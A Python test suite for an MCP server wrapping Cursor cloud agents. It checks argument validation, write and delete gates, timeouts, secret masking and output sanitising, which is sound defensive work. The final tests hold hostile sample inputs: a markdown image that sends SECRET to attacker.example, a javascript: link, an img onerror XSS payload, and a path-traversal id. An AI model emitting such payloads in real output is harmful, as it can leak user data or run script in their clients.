"""The tool contract (docs/architecture.md, points 1 to 11), proved once on the toolkit with test tools."""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Annotated, Any
from urllib.parse import quote

import anyio
import pytest
from mcp import Client
from mcp_types import CallToolResult
from pydantic import Field

from cursor_cloud_agents.api import errors as api_errors
from cursor_cloud_agents.config import Secret, Settings
from cursor_cloud_agents.core.failures import ToolFailure
from cursor_cloud_agents.redact import Redactor
from cursor_cloud_agents.server.app import serve_toolkit
from cursor_cloud_agents.server.pipeline.declaration import Access
from cursor_cloud_agents.server.pipeline.state import ServerState
from cursor_cloud_agents.server.pipeline.toolcall import ToolCall
from cursor_cloud_agents.server.pipeline.toolkit import Toolkit

pytestmark = pytest.mark.anyio

KEY = "key_canary_0123456789abcdefghijklmnopqrstuv"
AGENT = "bc-00000000-0000-4000-8000-000000000001"
AgentId = Annotated[str, Field(pattern=r"^bc-[0-9a-fA-F-]{36}$")]


def make_kit(**overrides: Any) -> tuple[Toolkit, dict[str, int]]:
    """A toolkit with a few test tools; `calls` counts how many bodies really ran."""
    settings = Settings(api_key=Secret(KEY), **overrides)
    kit = Toolkit(ServerState(settings, Redactor(settings.secrets())), hard_stop_grace=0.0)
    calls = {"count": 0}

    @kit.tool(title="Echo")
    async def cursor_echo(text: str, limit: Annotated[int, Field(ge=1, le=100)] = 20) -> dict[str, Any]:
        """Echo text back."""
        calls["count"] += 1
        return {"text": text, "limit": limit, "absent": None}

    @kit.tool(title="Create", access=Access.WRITE)
    async def cursor_make(agent_id: AgentId) -> dict[str, Any]:
        """Pretend to create."""
        calls["count"] += 1
        return {"agent_id": agent_id}

    @kit.tool(title="Delete", access=Access.DELETE)
    async def cursor_remove(agent_id: AgentId, confirm_agent_id: str) -> dict[str, Any]:
        """Pretend to delete."""
        calls["count"] += 1
        return {"deleted": agent_id, "confirmed": confirm_agent_id}

    add_failing_tools(kit)
    return kit, calls


def add_failing_tools(kit: Toolkit) -> None:
    """Tools that overrun, overflow, crash or echo secrets."""

    @kit.tool(title="Slow", budget=lambda _args: 0.05)
    async def cursor_slow() -> dict[str, Any]:
        """Never finishes."""
        await anyio.sleep_forever()
        return {}

    @kit.tool(title="Slow write", access=Access.WRITE, budget=lambda _args: 0.05)
    async def cursor_slow_write(call: ToolCall) -> dict[str, Any]:
        """Never finishes, after maybe sending."""
        call.note(agent_id=AGENT)
        await anyio.sleep_forever()
        return {}

    @kit.tool(title="Big")
    async def cursor_big(size: int) -> dict[str, Any]:
        """Return a big answer."""
        return {"blob": "x" * size}

    @kit.tool(title="Crash")
    async def cursor_crash() -> dict[str, Any]:
        """Fail with a bug."""
        raise RuntimeError(f"secret internal detail {KEY}")

    @kit.tool(title="Surrogate")
    async def cursor_surrogate() -> dict[str, Any]:
        """Return agent text holding a lone surrogate, as a decoded JSON escape can."""
        return {"result": "a\ud800b"}

    @kit.tool(title="Upstream")
    async def cursor_upstream(form: str) -> dict[str, Any]:
        """Fail with an upstream error that echoes the key."""
        raise api_errors.BadRequestError(f"bad header {form}", status_code=400, code="validation_error")

    @kit.tool(title="Agent text")
    async def cursor_agent_text(text: str) -> dict[str, Any]:
        """Return agent-produced text."""
        return {"result": text}

    @kit.tool(title="Progress")
    async def cursor_progress(call: ToolCall) -> dict[str, Any]:
        """Report three steps."""
        for step in range(3):
            await call.progress(f"step {step}")
        return {"steps": 3}


@asynccontextmanager
async def connect(kit: Toolkit) -> AsyncGenerator[Client, None]:
    async with Client(serve_toolkit(kit, name="test", cached=False), mode="legacy") as client:
        yield client


def body(result: CallToolResult) -> dict[str, Any]:
    """The JSON text of a result, checked to be identical to its structured content."""
    text = result.content[0].text  # type: ignore[union-attr]
    assert isinstance(text, str)
    data = json.loads(text)
    assert data == result.structured_content
    return data


async def call(kit: Toolkit, tool: str, arguments: dict[str, Any] | None = None) -> CallToolResult:
    async with connect(kit) as client:
        return await client.call_tool(tool, arguments or {})


async def test_result_is_compact_json_identical_in_text_and_structured_content_without_nulls() -> None:
    """Tool contract 5: one compact JSON object in both channels, null fields omitted."""
    kit, _ = make_kit()
    result = await call(kit, "cursor_echo", {"text": "hi"})
    assert not result.is_error
    assert result.content[0].text == '{"text":"hi","limit":20}'  # type: ignore[union-attr]
    assert body(result) == {"text": "hi", "limit": 20}


@pytest.mark.parametrize(
    "arguments",
    [
        {"text": "hi", "surprise": 1},
        {"text": "hi", "limit": True},
        {"text": "hi", "limit": "5"},
        {"text": "hi", "limit": 0},
        {},
    ],
    ids=["unknown-argument", "true-is-not-an-integer", "string-is-not-an-integer", "out-of-range", "missing"],
)
async def test_bad_arguments_are_refused_as_validation_and_the_tool_never_runs(arguments: dict[str, Any]) -> None:
    """Tool contract 1: strict arguments; a refused call runs nothing and sends nothing."""
    kit, calls = make_kit()
    result = await call(kit, "cursor_echo", arguments)
    assert result.is_error
    assert body(result)["code"] == "VALIDATION"
    assert calls["count"] == 0


async def test_an_id_that_does_not_match_its_pattern_is_refused_before_the_tool_runs() -> None:
    """Tool contract 1: ids that go into URL paths match their pattern first (docs/reliability.md B-08)."""
    kit, calls = make_kit(allow_writes=True)
    result = await call(kit, "cursor_make", {"agent_id": "../../v1/me"})
    assert body(result)["code"] == "VALIDATION"
    assert calls["count"] == 0


async def test_input_schema_carries_no_generated_titles_and_no_noise_the_guard_enforces_anyway_k_61() -> None:
    """Catalogue economy (K-61): no titles, no `additionalProperties: false`, no default that omitting gives, no
    length guard; the strict guard still refuses an unknown name (test above), whatever the schema shows."""
    kit, _ = make_kit()
    async with connect(kit) as client:
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        schema = json.dumps(tools["cursor_echo"].input_schema)
    for noise in ('"title"', '"additionalProperties": false', '"default": false', '"default": 0,', "Length"):
        assert noise not in schema, noise


async def test_a_mutation_with_writes_off_is_refused_as_read_only_and_never_runs() -> None:
    """Tool contract 2: CURSOR_MCP_ALLOW_WRITES gates every mutation."""
    kit, calls = make_kit()
    result = await call(kit, "cursor_make", {"agent_id": AGENT})
    data = body(result)
    assert data["code"] == "READ_ONLY"
    assert "CURSOR_MCP_ALLOW_WRITES=1" in data["message"]
    assert calls["count"] == 0


async def test_a_delete_without_the_second_switch_is_refused_as_delete_disabled() -> None:
    """Tool contract 2: deletion needs CURSOR_MCP_ALLOW_DELETE on top of writes."""
    kit, calls = make_kit(allow_writes=True)
    result = await call(kit, "cursor_remove", {"agent_id": AGENT, "confirm_agent_id": AGENT})
    assert body(result)["code"] == "DELETE_DISABLED"
    assert calls["count"] == 0


async def test_a_delete_whose_confirmation_differs_from_the_agent_id_is_refused() -> None:
    """Tool contract 2, D-03: confirm_agent_id must equal agent_id; nothing runs otherwise."""
    kit, calls = make_kit(allow_writes=True, allow_delete=True)
    result = await call(kit, "cursor_remove", {"agent_id": AGENT, "confirm_agent_id": "yes"})
    assert body(result)["code"] == "CONFIRMATION_REQUIRED"
    assert calls["count"] == 0
    ok = await call(kit, "cursor_remove", {"agent_id": AGENT, "confirm_agent_id": AGENT})
    assert body(ok) == {"deleted": AGENT, "confirmed": AGENT}


async def test_a_read_that_overruns_its_deadline_answers_timeout() -> None:
    """Tool contract 3: a hard deadline per call."""
    kit, _ = make_kit()
    with anyio.fail_after(5):
        result = await call(kit, "cursor_slow")
    assert body(result)["code"] == "TIMEOUT"


async def test_a_write_stopped_at_its_deadline_is_outcome_unknown_with_the_known_ids() -> None:
    """Paid mutations, never twice: a write cut by the deadline is never reported as not done."""
    kit, _ = make_kit(allow_writes=True)
    with anyio.fail_after(5):
        result = await call(kit, "cursor_slow_write")
    data = body(result)
    assert data["code"] == "MUTATION_OUTCOME_UNKNOWN"
    assert data["agent_id"] == AGENT


async def test_a_result_over_the_byte_cap_is_refused_with_a_way_to_ask_for_less() -> None:
    """Tool contract 6: never a silent cut."""
    kit, _ = make_kit(max_result_bytes=4_000)
    assert not (await call(kit, "cursor_big", {"size": 3_900})).is_error
    data = body(await call(kit, "cursor_big", {"size": 4_000}))
    assert data["code"] == "RESULT_TOO_LARGE"
    assert data["max_bytes"] == 4_000
    assert "ask for less" in data["message"]


async def test_a_bug_becomes_a_generic_internal_error_and_its_traceback_goes_to_the_log(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Tool contract 4, SL-06: only a bug in our code is a generic error; details stay in the server log."""
    kit, _ = make_kit()
    with caplog.at_level(logging.ERROR, logger="cursor_cloud_agents.tools"):
        data = body(await call(kit, "cursor_crash"))
    assert data["code"] == "INTERNAL"
    assert "secret internal detail" not in json.dumps(data)
    assert any(record.exc_info for record in caplog.records)


@pytest.mark.parametrize(
    "form",
    [
        KEY,
        base64.b64encode(KEY.encode()).decode(),
        base64.b64encode(f"{KEY}:".encode()).decode(),
        quote(KEY, safe=""),
        json.dumps(KEY)[1:-1],
        f"Authorization: Bearer {KEY}",
    ],
    ids=["raw", "base64", "basic-auth", "url-encoded", "json-escaped", "bearer-header"],
)
async def test_a_secret_inside_an_upstream_error_is_masked_in_every_form(form: str) -> None:
    """Tool contract 8 (docs/reliability.md SL-02): the upstream echoed the key; the model never sees it."""
    kit, _ = make_kit()
    result = await call(kit, "cursor_upstream", {"form": form})
    text = result.content[0].text  # type: ignore[union-attr]
    assert isinstance(text, str)
    data = body(result)
    assert data["code"] == "VALIDATION"
    assert data["http_status"] == 400
    assert KEY not in text and base64.b64encode(f"{KEY}:".encode()).decode() not in text
    assert KEY[:12] not in text


async def test_a_failure_message_is_masked_whole_before_it_is_clipped() -> None:
    """Tool contract 8 (docs/reliability.md SL-02): clipping a long message never leaves the start of a secret."""
    kit, _ = make_kit()

    @kit.tool(title="Long failure")
    async def cursor_long_failure() -> dict[str, Any]:
        """Fail with a message whose 2,000-character cut falls inside the key."""
        raise ToolFailure("VALIDATION", "x" * 1_990 + f" {KEY} " + "y" * 100)

    result = await call(kit, "cursor_long_failure")
    data = body(result)
    assert data["message"].endswith(" [clipped]")
    assert KEY[:8] not in data["message"]


async def test_invisible_and_bidi_characters_in_agent_text_are_stripped() -> None:
    """Tool contract 7 (docs/reliability.md P-02): hidden characters never reach the model."""
    kit, _ = make_kit()
    hidden = "ok\u200b\u202eevil\u2066\U000e0041\x1b[31m\ufeff done\n\tend"
    data = body(await call(kit, "cursor_agent_text", {"text": hidden}))
    assert data["result"] == "okevil[31m done\n\tend"


async def test_every_tool_sets_all_four_annotation_hints_explicitly() -> None:
    """Tool contract 9: Codex decides approval from the hints; the defaults are the worst case."""
    kit, _ = make_kit()
    async with connect(kit) as client:
        for tool in (await client.list_tools()).tools:
            hints = tool.annotations
            assert hints is not None
            values = (hints.read_only_hint, hints.destructive_hint, hints.idempotent_hint, hints.open_world_hint)
            assert None not in values, tool.name
        tools = {tool.name: tool.annotations for tool in (await client.list_tools()).tools}
        assert tools["cursor_echo"] and tools["cursor_echo"].read_only_hint is True
        assert tools["cursor_make"] and tools["cursor_make"].idempotent_hint is False
        assert tools["cursor_remove"] and tools["cursor_remove"].destructive_hint is True


async def test_waits_report_mcp_progress_to_a_client_that_asked_for_it() -> None:
    """Tool contract 10: progress notifications reach a client that sent a progress token."""
    kit, _ = make_kit()
    seen: list[tuple[float, str | None]] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        assert total is None
        seen.append((progress, message))

    async with connect(kit) as client:
        result = await client.call_tool("cursor_progress", {}, progress_callback=on_progress)
        assert body(result) == {"steps": 3}
    assert [step for step, _ in seen] == [1, 2, 3]


async def test_each_call_logs_one_line_with_tool_outcome_and_duration_without_arguments(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Tool contract 11: one line per call, never the arguments."""
    kit, _ = make_kit()
    with caplog.at_level(logging.INFO, logger="cursor_cloud_agents.tools"):
        await call(kit, "cursor_echo", {"text": "do not log this prompt"})
    lines = [record.getMessage() for record in caplog.records if record.name == "cursor_cloud_agents.tools"]
    assert len(lines) == 1
    assert lines[0].startswith("tool=cursor_echo outcome=ok duration_ms=")
    assert "do not log this prompt" not in lines[0]


async def test_a_missing_key_answers_configuration_missing_and_the_tool_never_runs() -> None:
    """Settings: without a key the server lists its tools and the first call names the variable."""
    settings = Settings(api_key=None, key_problem="CURSOR_API_KEY is not set in the MCP server's environment")
    kit = Toolkit(ServerState(settings, Redactor()))
    ran: list[bool] = []

    @kit.tool(title="Ping")
    async def cursor_ping() -> dict[str, Any]:
        """Ping."""
        ran.append(True)
        return {}

    data = body(await call(kit, "cursor_ping"))
    assert data["code"] == "CONFIGURATION_MISSING"
    assert "CURSOR_API_KEY" in data["message"]
    assert ran == []


async def test_a_lone_surrogate_in_agent_text_is_dropped_instead_of_crashing_the_answer() -> None:
    """Tool contract 7: a JSON escape like \\ud800 decodes to a lone surrogate, which UTF-8 cannot encode."""
    kit, _ = make_kit()
    data = body(await call(kit, "cursor_surrogate"))
    assert data["result"] == "ab"


async def test_an_expected_failure_raised_inside_a_task_group_keeps_its_code() -> None:
    """Tool contract 4: a tool's own failure is not a bug because it crossed a task group."""
    kit, _ = make_kit()

    @kit.tool(title="Grouped")
    async def cursor_grouped() -> dict[str, Any]:
        """Fail inside a task group."""

        async def fail() -> None:
            raise api_errors.NotFoundError("agent not found", status_code=404, code="agent_not_found")

        async with anyio.create_task_group() as group:
            group.start_soon(fail)
        return {}

    data = body(await call(kit, "cursor_grouped"))
    assert data["code"] == "NOT_FOUND"


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("see ![x](https://attacker.example/?d=SECRET) now", "see image x: https://attacker.example/?d=SECRET now"),
        ("[click](javascript:alert(1))", "click (javascript:alert(1))"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("Vec<String> and [docs](https://example.com/a)", "Vec<String> and [docs](https://example.com/a)"),
    ],
    ids=["markdown-image", "javascript-link", "html-img", "code-and-web-link-kept"],
)
async def test_agent_text_that_would_fetch_or_run_when_rendered_is_made_inert(text: str, inert: str) -> None:
    """docs/reliability.md P-03 (issue 13): a rendered Markdown image fetches its URL, which can carry data out."""
    kit, _ = make_kit()
    data = body(await call(kit, "cursor_agent_text", {"text": text}))
    assert data["result"] == inert
